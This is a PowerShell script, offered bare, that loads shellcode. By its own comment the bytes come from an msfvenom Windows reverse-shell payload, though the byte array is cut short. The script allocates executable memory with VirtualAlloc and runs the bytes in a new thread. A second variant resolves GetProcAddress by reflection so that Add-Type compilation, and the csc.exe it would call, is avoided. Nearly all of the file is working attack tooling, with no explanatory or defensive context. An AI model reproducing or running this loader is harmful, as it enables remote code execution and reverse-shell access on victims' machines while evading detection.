# msfvenom -p windows/x64/shell_reverse_tcp ... -f ps1, then pasted below
[Byte[]] $buf = 0xfc,0x48,0x83,0xe4,0xf0,0xe8,0xc0,0x00,0x00,0x00,0x41,0x51,0x41,0x50,0x52,0x51,0x56,0x48,0x31,0xd2

$k32 = @'
[DllImport("kernel32.dll")]
public static extern IntPtr VirtualAlloc(IntPtr lpAddress, uint dwSize, uint flAllocationType, uint flProtect);
[DllImport("kernel32.dll")]
public static extern IntPtr CreateThread(IntPtr lpThreadAttributes, uint dwStackSize, IntPtr lpStartAddress, IntPtr lpParameter, uint dwCreationFlags, IntPtr lpThreadId);
[DllImport("kernel32.dll")]
public static extern uint WaitForSingleObject(IntPtr hHandle, uint dwMilliseconds);
'@

$native = Add-Type -MemberDefinition $k32 -Name 'K32' -Namespace 'Runner' -PassThru
$mem = $native::VirtualAlloc([IntPtr]::Zero, [uint32]$buf.Length, 0x3000, 0x40)
[System.Runtime.InteropServices.Marshal]::Copy($buf, 0, $mem, $buf.Length)
$thread = $native::CreateThread([IntPtr]::Zero, 0, $mem, [IntPtr]::Zero, 0, [IntPtr]::Zero)
$native::WaitForSingleObject($thread, [uint32]'0xFFFFFFFF') | Out-Null

# Variant without Add-Type (no csc.exe on disk): delegate from GetProcAddress
function Get-ProcAddress {
    param([string]$Module, [string]$Procedure)
    $sysAsm = [AppDomain]::CurrentDomain.GetAssemblies() | Where-Object { $_.GlobalAssemblyCache -and $_.Location.Split('\\')[-1] -eq 'System.dll' }
    $unsafe = $sysAsm.GetType('Microsoft.Win32.UnsafeNativeMethods')
    $gpa = $unsafe.GetMethod('GetProcAddress', [Type[]]@([System.Runtime.InteropServices.HandleRef], [string]))
    $handle = $unsafe.GetMethod('GetModuleHandle').Invoke($null, @($Module))
    $ref = New-Object System.Runtime.InteropServices.HandleRef((New-Object IntPtr), $handle)
    $gpa.Invoke($null, @($ref, $Procedure))
}

$valloc = Get-ProcAddress -Module kernel32.dll -Procedure VirtualAlloc
Write-Verbose ('VirtualAlloc at 0x{0:X}' -f $valloc.ToInt64())
